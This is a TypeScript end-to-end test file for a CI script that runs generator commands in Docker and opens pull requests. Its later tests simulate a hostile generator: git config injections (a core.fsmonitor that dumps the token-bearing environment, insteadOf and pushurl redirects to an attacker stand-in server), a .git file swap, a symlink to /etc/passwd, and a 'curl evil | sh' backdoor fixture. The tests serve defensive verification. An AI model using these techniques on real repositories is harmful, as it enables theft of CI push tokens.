// scripts/update-generated.mts end to end: the script runs as a process (as CI runs it),
// the commands run in a real build image (FROM busybox) on the real Docker Engine, the
// remote is a real bare repository served over HTTP by the GitHub stand-in (so pushes
// need the token), and Octokit talks to the stand-in's REST API.
import { createHash } from 'node:crypto'
import fs from 'node:fs'
import http from 'node:http'
import type { AddressInfo } from 'node:net'
import path from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { makeBuildRepo, removeImagesNamed } from '../helpers/build-image.mts'
import { requireDocker, uniqueName } from '../helpers/docker.mts'
import { startGitHubServer, type GitHubServer, type PullJson } from '../helpers/github-server.mts'
import { watchDescendants } from '../helpers/proc.mts'
import { commitFiles, remoteScene, standInEnv, type RemoteScene } from '../helpers/remote-scene.mts'
import { git, tempDir, writeFiles } from '../helpers/repo.mts'
import { runScript, type RunResult } from '../helpers/run.mts'

const TOKEN = `ghs_gen${Math.random().toString(36).slice(2)}Secret`
const BOT = 'generated-bot'
const IMAGE = uniqueName('gen-build')

// The commands. `copy` fails if the push token reached its container.
const GENERATED = [
  { name: 'copy', command: ['sh', '-c', 'test -z "$GITHUB_TOKEN$GH_TOKEN" && cp input.txt gen/out.txt && date > cache.tmp'], paths: ['gen'] },
  { name: 'outside', command: ['sh', '-c', 'echo x > gen/extra.txt && echo y > stray.txt && rm README.md'], paths: ['gen/**/*.txt'] },
  { name: 'fails', command: ['sh', '-c', 'echo generator-broke >&2; echo half > gen/out.txt; exit 3'], paths: ['gen'] },
]

let gh: GitHubServer
beforeAll(async () => {
  requireDocker(['busybox:latest'])
  gh = await startGitHubServer({ tokens: { [TOKEN]: BOT } })
})
afterAll(async () => {
  await gh?.close()
  removeImagesNamed(IMAGE)
})

type Fixture = RemoteScene

/** A build repository on the remote, served by the stand-in; its checkout. */
function setup(generated: unknown[] = GENERATED): Fixture {
  const dev = makeBuildRepo({
    name: IMAGE,
    files: { 'input.txt': 'v2\n', 'gen/out.txt': 'v1\n', '.gitignore': '*.tmp\n' },
    config: { generated },
  })
  return remoteScene(gh, { prefix: 'gen', dev })
}

function env(f: Fixture, extra: NodeJS.ProcessEnv = {}): NodeJS.ProcessEnv {
  return standInEnv(gh, f.name, TOKEN, extra)
}

function run(f: Fixture, args: string[], extra: NodeJS.ProcessEnv = {}, onSpawn?: (child: import('node:child_process').ChildProcess) => void): Promise<RunResult> {
  return runScript('update-generated', args, { cwd: f.checkout, env: env(f, extra), onSpawn })
}

interface Json {
  results: Array<{ name: string; status: string; files: string[]; branch: string; pull?: { number: number }; diffStat?: string; message?: string }>
  failed: boolean
}
const json = (r: RunResult): Json => JSON.parse(r.stdout)

/** Commit files on main in the developer's clone and push them. */
function pushToMain(f: Fixture, files: Record<string, string>, message: string): void {
  commitFiles(f.dev, files, message)
  git(f.dev, 'push', '-q', 'origin', 'main')
}

const remoteSha = (f: Fixture, ref: string) => git(f.bare, 'for-each-ref', '--format=%(objectname)', ref)
const remoteFile = (f: Fixture, ref: string, file: string) => git(f.bare, 'show', `${ref}:${file}`)
const pullsFor = async (f: Fixture, head: string): Promise<PullJson[]> => (await gh.pulls(f.name)).filter((p) => p.head.ref === head)
/** Requests that wrote something: pushes (receive-pack) and API calls other than GET. */
const writes = (from: number) =>
  gh.requests.slice(from).filter((q) => (q.path.endsWith('/git-receive-pack') && q.method === 'POST') || (!q.path.includes('.git/') && q.method !== 'GET'))

/** Everything about the checkout the script must leave alone. */
function checkoutState(f: Fixture) {
  return {
    head: git(f.checkout, 'rev-parse', 'HEAD'),
    branch: git(f.checkout, 'symbolic-ref', '--short', 'HEAD'),
    status: git(f.checkout, 'status', '--porcelain', '--untracked-files=all', '--ignored'),
    worktrees: git(f.checkout, 'worktree', 'list', '--porcelain').split('\n').filter((l) => l.startsWith('worktree ')).length,
    branches: git(f.checkout, 'branch', '--list', '--format=%(refname)'),
    config: fs.readFileSync(path.join(f.checkout, '.git', 'config'), 'utf8'),
  }
}

describe('update-generated: a changed output, re-runs, and a later run with no change', () => {
  let f: Fixture
  let firstPr: number
  let firstSha: string
  beforeAll(() => {
    f = setup()
    // The user's own untracked (and ignored) files must survive every run.
    writeFiles(f.checkout, { 'notes.txt': 'mine\n', 'scratch.tmp': 'mine too\n' })
  })

  it('opens one pull request from update-generated/<name> with the diff stat and the command', async () => {
    const before = checkoutState(f)
    const result = await run(f, ['--only', 'copy', '--json'])
    expect(result.exitCode, result.stderr).toBe(0)
    const [entry] = json(result).results
    expect(entry).toMatchObject({ name: 'copy', status: 'opened', branch: 'update-generated/copy', files: ['gen/out.txt'] })

    const pulls = await pullsFor(f, 'update-generated/copy')
    expect(pulls).toHaveLength(1)
    const [pull] = pulls
    firstPr = pull.number
    expect(entry.pull?.number).toBe(pull.number)
    expect(pull).toMatchObject({ state: 'open', title: 'Update generated files: copy', base: { ref: 'main' } })
    expect(pull.body).toContain('test -z "$GITHUB_TOKEN$GH_TOKEN" && cp input.txt gen/out.txt')
    expect(pull.body).toMatch(/gen\/out\.txt \| 2 \+-\n 1 file changed, 1 insertion\(\+\), 1 deletion\(-\)/)

    // The branch: main plus the one generated change (the ignored cache file is not in it).
    firstSha = remoteSha(f, 'refs/heads/update-generated/copy')
    expect(git(f.bare, 'rev-parse', `${firstSha}^`)).toBe(remoteSha(f, 'refs/heads/main'))
    expect(git(f.bare, 'diff', '--name-only', 'main', firstSha)).toBe('gen/out.txt')
    expect(remoteFile(f, firstSha, 'gen/out.txt')).toBe('v2')
    expect(git(f.bare, 'log', '-1', '--format=%B', firstSha)).toMatch(/^Update generated files: copy\n\nProduced in the build image by:\n\n {4}sh -c test -z/)

    expect(checkoutState(f)).toEqual(before)
    expect(fs.readFileSync(path.join(f.checkout, 'notes.txt'), 'utf8')).toBe('mine\n')
  })

  it('a re-run with the same output pushes nothing, keeps the branch and opens no second pull request', async () => {
    const from = gh.requests.length
    const result = await run(f, ['--only', 'copy', '--json'])
    expect(result.exitCode, result.stderr).toBe(0)
    expect(json(result).results[0]).toMatchObject({ status: 'unchanged', pull: { number: firstPr } })
    expect(remoteSha(f, 'refs/heads/update-generated/copy')).toBe(firstSha)
    expect(await pullsFor(f, 'update-generated/copy')).toHaveLength(1)
    expect(writes(from)).toEqual([])
  })

  it('new output (main moved on) updates the same pull request', async () => {
    pushToMain(f, { 'input.txt': 'v3\n' }, 'input v3')
    const result = await run(f, ['--only', 'copy', '--json'])
    expect(result.exitCode, result.stderr).toBe(0)
    expect(json(result).results[0]).toMatchObject({ status: 'updated', pull: { number: firstPr } })
    const sha = remoteSha(f, 'refs/heads/update-generated/copy')
    expect(sha).not.toBe(firstSha)
    expect(git(f.bare, 'rev-parse', `${sha}^`)).toBe(remoteSha(f, 'refs/heads/main'))
    expect(remoteFile(f, sha, 'gen/out.txt')).toBe('v3')
    const pulls = await pullsFor(f, 'update-generated/copy')
    expect(pulls.map((p) => [p.number, p.state])).toEqual([[firstPr, 'open']])
  })

  it('a later run with no change closes the stale pull request and deletes its branch', async () => {
    pushToMain(f, { 'gen/out.txt': 'v3\n' }, 'regenerate by hand')
    const before = checkoutState(f)
    const result = await run(f, ['--only', 'copy', '--json'])
    expect(result.exitCode, result.stderr).toBe(0)
    expect(json(result).results[0]).toMatchObject({ status: 'closed', files: [], pull: { number: firstPr } })
    expect((await gh.pull(f.name, firstPr)).state).toBe('closed')
    expect(gh.comments(f.name, firstPr).map((c) => c.body).join('\n')).toMatch(/no longer changes anything on `main`/)
    expect(remoteSha(f, 'refs/heads/update-generated/copy')).toBe('')
    expect(checkoutState(f)).toEqual(before)

    // And again: nothing open, nothing to do.
    const again = await run(f, ['--only', 'copy', '--json'])
    expect(again.exitCode, again.stderr).toBe(0)
    expect(json(again).results[0]).toMatchObject({ status: 'current' })
    expect(await pullsFor(f, 'update-generated/copy')).toHaveLength(1)
  })
})

describe('update-generated: failures push nothing', () => {
  let f: Fixture
  beforeAll(() => {
    f = setup()
  })

  it('a command writing outside its paths fails naming the command and the files; nothing is pushed', async () => {
    const before = checkoutState(f)
    const from = gh.requests.length
    const result = await run(f, ['--only', 'outside', '--json'])
    expect(result.exitCode).toBe(1)
    const [entry] = json(result).results
    expect(entry).toMatchObject({ name: 'outside', status: 'failed', files: ['README.md', 'stray.txt'] })
    expect(result.stderr).toContain(
      'generated "outside": `sh -c echo x > gen/extra.txt && echo y > stray.txt && rm README.md` changed files outside its paths (gen/**/*.txt): README.md, stray.txt. Nothing was pushed',
    )
    expect(writes(from)).toEqual([])
    expect(remoteSha(f, 'refs/heads/update-generated/outside')).toBe('')
    expect(await gh.pulls(f.name)).toEqual([])
    expect(checkoutState(f)).toEqual(before)
  })

  it('a failing command fails the job with its name and exit code; the others still run', async () => {
    pushToMain(f, { 'input.txt': 'v9\n' }, 'input v9')
    const before = checkoutState(f)
    const result = await run(f, ['--json'])
    expect(result.exitCode).toBe(1)
    const byName = Object.fromEntries(json(result).results.map((r) => [r.name, r]))
    expect(Object.keys(byName)).toEqual(['copy', 'outside', 'fails'])
    expect(byName.copy.status).toBe('opened')
    expect(byName.outside.status).toBe('failed')
    expect(byName.fails).toMatchObject({ status: 'failed', files: ['gen/out.txt'] })
    expect(result.stderr).toContain('generator-broke')
    expect(result.stderr).toContain('generated "fails": `sh -c echo generator-broke >&2; echo half > gen/out.txt; exit 3` failed with exit code 3')
    expect(json(result).failed).toBe(true)
    expect(remoteSha(f, 'refs/heads/update-generated/fails')).toBe('')
    expect(remoteSha(f, 'refs/heads/update-generated/outside')).toBe('')
    expect((await gh.pulls(f.name)).map((p) => p.head.ref)).toEqual(['update-generated/copy'])
    expect(checkoutState(f)).toEqual(before)
  })
})

describe('update-generated: flags and the token', () => {
  let f: Fixture
  beforeAll(() => {
    f = setup()
  })

  it('--dry-run reports the change and writes nothing anywhere, without a token', async () => {
    const from = gh.requests.length
    // The remote needs the token to be read; a dry run on a checkout of a readable remote needs none.
    git(f.checkout, 'remote', 'set-url', 'origin', f.bare)
    try {
      const result = await run(f, ['--dry-run', '--only', 'copy', '--json'], { GITHUB_TOKEN: '' })
      expect(result.exitCode, result.stderr).toBe(0)
      expect(json(result).results[0]).toMatchObject({ status: 'changed', files: ['gen/out.txt'] })
      expect(json(result).results[0].diffStat).toContain('gen/out.txt | 2 +-')
      expect(result.stderr).toContain('would push update-generated/copy')
    } finally {
      git(f.checkout, 'remote', 'set-url', 'origin', gh.gitUrl(f.name))
    }
    expect(writes(from)).toEqual([])
    expect(git(f.bare, 'for-each-ref', 'refs/heads/update-generated')).toBe('')
  })

  it('the token is never in output, argv or git config; git pushes get it from the credential helper', async () => {
    let watch: ReturnType<typeof watchDescendants> | undefined
    const from = gh.requests.length
    const result = await run(f, ['--only', 'copy'], { GITHUB_ACTIONS: 'true', GITHUB_SERVER_URL: gh.url, GITHUB_RUN_ID: '42' }, (child) => (watch = watchDescendants(child.pid!)))
    const argv = watch!.stop()
    expect(result.exitCode, result.stderr).toBe(0)
    // The one place it may appear: the workflow command that asks Actions to mask it.
    expect(result.stderr.split('\n').filter((l) => l.includes(TOKEN))).toEqual([`::add-mask::${TOKEN}`])
    expect(result.stdout).not.toContain(TOKEN)
    expect(argv.some((a) => /scripts\/update-generated\.m[jt]s/.test(a))).toBe(true)
    expect(argv.some((a) => a.startsWith('docker run'))).toBe(true)
    expect(argv.filter((a) => a.includes(TOKEN))).toEqual([])
    expect(checkoutState(f).config).not.toContain(TOKEN)
    expect(git(f.checkout, 'remote', 'get-url', 'origin')).toBe(gh.gitUrl(f.name))
    const [pull] = await gh.pulls(f.name)
    expect(`${pull.title}\n${pull.body}`).not.toContain(TOKEN)
    expect(pull.body).toContain(`${gh.url}/${f.name}/actions/runs/42`)
    // git asked the credential helper: refused without credentials, then pushed as the bot.
    const pushes = gh.requests.slice(from).filter((q) => q.path === `/${f.name}.git/info/refs` && q.query.service === 'git-receive-pack')
    expect(pushes.map((q) => q.status)).toEqual([401, 200])
    expect(pushes[1].login).toBe(BOT)
  })

  it('bad usage is exit 2: an unknown --only, no token', async () => {
    const unknown = await run(f, ['--only', 'nope'])
    expect(unknown.exitCode).toBe(2)
    expect(unknown.stderr).toContain('--only: no generated entry named "nope" in build.config.json (known: copy, outside, fails)')
    const noToken = await run(f, [], { GITHUB_TOKEN: '' })
    expect(noToken.exitCode).toBe(2)
    expect(noToken.stderr).toContain('GITHUB_TOKEN is not set')
  })
})

// --- a hostile generator ------------------------------------------------------------------
// The generator runs code the job does not control (a tool, a dependency of one). Before
// the fix it got the checkout's real `.git` read-write: these commands rewrite it the ways
// an attacker would. Each works on a worktree's `.git` file when there is one (the old
// layout), and writes the same into a `.git` of its own when there is none, so the test
// shows the rewrite lands nowhere git on the host looks.

/** Every file under `dir` (the checkout and its `.git`), by content; `.git/index` aside (`git status` refreshes it). */
function snapshot(dir: string): Record<string, string> {
  const out: Record<string, string> = {}
  const walk = (rel: string) => {
    for (const entry of fs.readdirSync(path.join(dir, rel), { withFileTypes: true })) {
      const name = rel ? `${rel}/${entry.name}` : entry.name
      const full = path.join(dir, name)
      if (entry.isDirectory()) walk(name)
      else if (name !== '.git/index') {
        const content = entry.isSymbolicLink() ? `-> ${fs.readlinkSync(full)}` : fs.readFileSync(full)
        out[name] = createHash('sha256').update(content).digest('hex')
      }
    }
  }
  walk('')
  return out
}

/** Finds the checkout's git config from inside the container (old layout), else writes `.git/config` of its own. */
const TARGET_CONFIG = 'if [ -f .git ]; then gd=$(sed -n "s/^gitdir: //p" .git); cfg="$gd/../../config"; else mkdir -p .git; cfg=.git/config; fi'

/** An HTTP server standing in for an attacker's: answers 401 Basic to everything, records what came. */
async function startEvilServer() {
  const requests: Array<{ url: string; authorization?: string }> = []
  const server = http.createServer((req, res) => {
    requests.push({ url: req.url ?? '', authorization: req.headers.authorization })
    res.writeHead(401, { 'www-authenticate': 'Basic realm="evil"' }).end()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
  return { url, requests, close: () => new Promise<void>((resolve) => server.close(() => resolve())) }
}

describe('update-generated: a generator never reaches the token, the checkout or its git data', () => {
  let evil: Awaited<ReturnType<typeof startEvilServer>>
  let leak: string
  beforeAll(async () => {
    evil = await startEvilServer()
    leak = path.join(tempDir('cbs-gen-leak-'), 'env.txt')
  })
  afterAll(() => evil?.close())

  const attacks = (): Record<string, string> => ({
    // The audit's reproduction: git on the host runs core.fsmonitor with its env (the token).
    fsmonitor: `${TARGET_CONFIG}; printf '[core]\\n\\tfsmonitor = "env >> ${leak}; false"\\n' >> "$cfg"`,
    // The worktree's .git file pointed at a git dir the generator made, with that fsmonitor.
    'git-file': [
      'if [ -f .git ]; then gd=$(sed -n "s/^gitdir: //p" .git); cp -r "$gd/../.." evil.tmp; rm -f .git; else mkdir -p evil.tmp/objects evil.tmp/refs; echo "ref: refs/heads/main" > evil.tmp/HEAD; fi',
      `printf '[core]\\n\\tfsmonitor = "env >> ${leak}; false"\\n' >> evil.tmp/config`,
      'echo "gitdir: $PWD/evil.tmp" > .git',
    ].join('; '),
    // Git's URLs rewritten to the attacker's server: fetches, ls-remote and pushes go there.
    'instead-of': `${TARGET_CONFIG}; printf '[url "%s/"]\\n\\tinsteadOf = %s/\\n' ${evil.url} ${gh.url} >> "$cfg"`,
    // A push URL for the remote: the push, with the token, goes to the attacker.
    'push-url': `${TARGET_CONFIG}; printf '[remote "origin"]\\n\\tpushurl = %s/acme/stolen.git\\n' ${evil.url} >> "$cfg"`,
    // HEAD moved to another commit whose tree is the same: its history would ride along.
    'move-head':
      'if [ -f .git ]; then gd=$(sed -n "s/^gitdir: //p" .git); cat "$gd/../../refs/remotes/origin/topic" > "$gd/HEAD"; else mkdir -p .git; echo 0123456789012345678901234567890123456789 > .git/HEAD; fi',
  })

  it.each(['fsmonitor', 'git-file', 'instead-of', 'push-url', 'move-head'])(
    '%s: the token reaches no process, the checkout is byte-for-byte unchanged, only the paths are committed',
    async (attack) => {
      const command = ['sh', '-c', `set -e; ${attacks()[attack]}; cp input.txt gen/out.txt`]
      const f = setup([{ name: attack, command, paths: ['gen'] }])
      // A branch whose net change is nothing, through a commit that adds a backdoor: in
      // the checkout, as CI's fetches leave other branches.
      git(f.dev, 'switch', '-q', '-c', 'topic')
      pushToMain(f, { 'backdoor.sh': 'curl evil | sh\n' }, 'add a backdoor')
      git(f.dev, 'rm', '-q', 'backdoor.sh')
      git(f.dev, 'commit', '-q', '-m', 'hide it again')
      git(f.dev, 'push', '-q', 'origin', 'topic', 'main')
      git(f.dev, 'switch', '-q', 'main')
      git(f.checkout, 'fetch', '-q', f.bare, '+refs/heads/*:refs/remotes/origin/*')
      const before = snapshot(f.checkout)
      const main = remoteSha(f, 'refs/heads/main')

      const result = await run(f, ['--json'])
      expect(result.exitCode, result.stderr).toBe(0)
      expect(json(result).results[0]).toMatchObject({ name: attack, status: 'opened', files: ['gen/out.txt'] })
      // No process git started after the generator ran its command with the token.
      expect(fs.existsSync(leak), fs.existsSync(leak) ? fs.readFileSync(leak, 'utf8').slice(0, 200) : '').toBe(false)
      expect(evil.requests).toEqual([])
      // The user's checkout, its .git included, is as it was.
      expect(snapshot(f.checkout)).toEqual(before)
      // The branch is the default branch plus one commit changing gen/out.txt alone, pushed as the bot.
      const sha = remoteSha(f, `refs/heads/update-generated/${attack}`)
      expect(git(f.bare, 'rev-parse', `${sha}^`)).toBe(main)
      expect(git(f.bare, 'rev-list', '--count', `${main}..${sha}`)).toBe('1')
      expect(git(f.bare, 'diff', '--name-only', main, sha)).toBe('gen/out.txt')
      expect(remoteFile(f, sha, 'gen/out.txt')).toBe('v2')
      expect((await pullsFor(f, `update-generated/${attack}`)).map((p) => p.state)).toEqual(['open'])
    },
  )

  it('only regular files are taken in: a symlink under paths (to a host file) fails the entry and pushes nothing', async () => {
    const f = setup([{ name: 'symlink', command: ['sh', '-c', 'ln -sf /etc/passwd gen/out.txt && echo new > gen/new.txt'], paths: ['gen'] }])
    const before = snapshot(f.checkout)
    const from = gh.requests.length
    const result = await run(f, ['--json'])
    expect(result.exitCode).toBe(1)
    expect(json(result).results[0]).toMatchObject({ name: 'symlink', status: 'failed', files: ['gen/out.txt'] })
    expect(result.stderr).toContain('left what is not a regular file under its paths: gen/out.txt. Only regular files are committed; nothing was pushed')
    expect(writes(from)).toEqual([])
    expect(remoteSha(f, 'refs/heads/update-generated/symlink')).toBe('')
    expect(snapshot(f.checkout)).toEqual(before)
  })
})

// --- the push token under another name ---------------------------------------------------
// nightly.yml sets REGISTRY_PASSWORD to the same write token as GITHUB_TOKEN; a project's
// steps.env passing `REGISTRY_*` (or naming a variable that holds the token) handed it to
// the generator, whose output the bot commits.
describe('update-generated: the generator never sees the token, under any name', () => {
  const ENV_DUMP = [{ name: 'env', command: ['sh', '-c', 'env | sort > gen/env.txt'], paths: ['gen'] }]
  const withStepsEnv = (stepsEnv: string[]) =>
    remoteScene(gh, { prefix: 'gen', dev: makeBuildRepo({ name: IMAGE, files: { 'gen/env.txt': 'none\n' }, config: { generated: ENV_DUMP, steps: { env: stepsEnv } } }) })
  const nightly = { REGISTRY_USERNAME: BOT, REGISTRY_PASSWORD: TOKEN, DEPLOY_KEY: TOKEN, AWS_REGION: 'eu-west-1' }

  it('steps.env with REGISTRY_*: exit 2 before anything runs, nothing pushed', async () => {
    const f = withStepsEnv(['AWS_REGION', 'REGISTRY_*'])
    const from = gh.requests.length
    const result = await run(f, ['--json'], nightly)
    expect(result.exitCode).toBe(2)
    expect(result.stderr).toContain('steps.env: "REGISTRY_*" would hand the generated commands every variable it matches, secrets included; update-generated takes exact names: list them')
    expect(writes(from)).toEqual([])
    expect(remoteSha(f, 'refs/heads/update-generated/env')).toBe('')
  })

  it('steps.env naming variables that hold the token: dropped, saying so; the committed output has the others', async () => {
    const f = withStepsEnv(['AWS_REGION', 'REGISTRY_USERNAME', 'REGISTRY_PASSWORD', 'DEPLOY_KEY'])
    const result = await run(f, ['--json'], nightly)
    expect(result.exitCode, result.stderr).toBe(0)
    expect(result.stderr).toContain('not passing DEPLOY_KEY to the generated commands: its value is a secret this run holds')
    const committed = remoteFile(f, 'refs/heads/update-generated/env', 'gen/env.txt')
    expect(committed).toContain('AWS_REGION=eu-west-1')
    expect(committed).toContain(`REGISTRY_USERNAME=${BOT}`)
    expect(committed).not.toContain(TOKEN)
    expect(committed).not.toMatch(/^(REGISTRY_PASSWORD|DEPLOY_KEY|GITHUB_TOKEN)=/m)
  })
})
